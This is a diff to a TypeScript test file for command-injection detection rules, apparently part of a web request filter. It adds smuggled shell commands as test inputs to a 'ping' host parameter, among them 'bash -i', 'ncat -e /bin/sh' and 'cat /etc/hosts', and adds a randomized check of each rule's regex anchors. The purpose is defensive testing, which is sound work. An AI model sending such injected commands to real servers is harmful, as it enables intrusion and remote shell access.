@@ -68,7 +68,8 @@ const CASES: Record<string, { hit: string[]; miss: string[] }> = {
     miss: [get('/etc/passwords-policy.html'), get('/docs/etcetera')],
   },
   'payload.cmdi.chained': {
-    hit: [get('/ping?host=127.0.0.1;cat /etc/hosts'), get('/ping?host=127.0.0.1|id'), get('/ping?host=x%26%26whoami'), get('/ping?host=1.1.1.1;+uname+-a')],
+    hit: [get('/ping?host=127.0.0.1;cat /etc/hosts'), get('/ping?host=127.0.0.1|id'), get('/ping?host=x%26%26whoami'), get('/ping?host=1.1.1.1;+uname+-a'),
+      get('/ping?host=x;bash+-i'), get('/ping?host=x|++id'), get('/ping?host=x;%09cat+/etc/hosts'), get('/ping?host=x%26ncat+-e+/bin/sh+h+1'), get('/ping?host=x|python3+-c+1')],
     miss: [get('/page?a=1&id=2&cat=3'), `GET / HTTP/1.1\r\nHost: x\r\nCookie: sid=1; id=77; cat=dogs\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64)\r\n\r\n`],
   },
   'payload.cmdi.substitution': {
@@ -99,6 +100,30 @@ describe('default payload rules', () => {
       }
     });
   }
+});
+
+describe('default rule anchors', () => {
+  it('every text a default rule\'s regex matches holds one of its anchors (20,000 random texts from the rules\' own pieces)', () => {
+    const pieces = [';', '&', '|', ' ', '  ', '\t', '\xa0', '$(', '`', 'cat', 'id', 'bash', 'sh', 'ncat', 'nc', 'python3', 'python', 'uname', 'x', '=', '<', '/', 'CAT', 'Id'];
+    let seed = 7;
+    const rnd = (n: number): number => {
+      seed = (seed * 1103515245 + 12345) & 0x7fffffff;
+      return (seed >> 8) % n;
+    };
+    for (const rule of defaultRules().filter((r) => r.id.startsWith('payload.cmdi.'))) {
+      const re = new RegExp(rule.pattern, 'i');
+      const anchors = (rule.anchors ?? []).map((a) => a.toLowerCase());
+      let matched = 0;
+      for (let n = 0; n < 20_000; n++) {
+        let text = '';
+        for (let k = 1 + rnd(6); k > 0; k--) text += pieces[rnd(pieces.length)];
+        if (!re.test(text)) continue;
+        matched++;
+        assert.ok(anchors.some((a) => text.toLowerCase().includes(a)), `${rule.id} matches ${JSON.stringify(text)} but no anchor occurs in it`);
+      }
+      assert.ok(matched > 100, `${rule.id}: only ${matched} random texts matched`);
+    }
+  });
 });
 
 describe('benign traffic', () => {
